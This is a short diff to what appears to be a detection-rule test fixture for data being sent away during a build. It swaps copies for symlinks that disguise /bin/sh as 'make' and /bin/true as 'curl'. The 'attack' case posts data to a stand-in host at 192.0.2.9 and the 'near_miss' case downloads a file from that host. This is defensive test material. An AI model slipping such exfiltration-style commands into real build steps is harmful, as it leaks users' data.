@@ -1,12 +1,12 @@
 # rule: Data sent away by a build
 # where: host
 attack() {
-    cp /bin/sh make
-    cp /bin/true curl
+    ln -s /bin/sh make
+    ln -s /bin/true curl
     ./make -c './curl -X POST https://192.0.2.9/ --data-raw hello; :'
 }
 near_miss() {
-    cp /bin/sh make
-    cp /bin/true curl
+    ln -s /bin/sh make
+    ln -s /bin/true curl
     ./make -c './curl -fsSLO https://192.0.2.9/tool; :'
 }
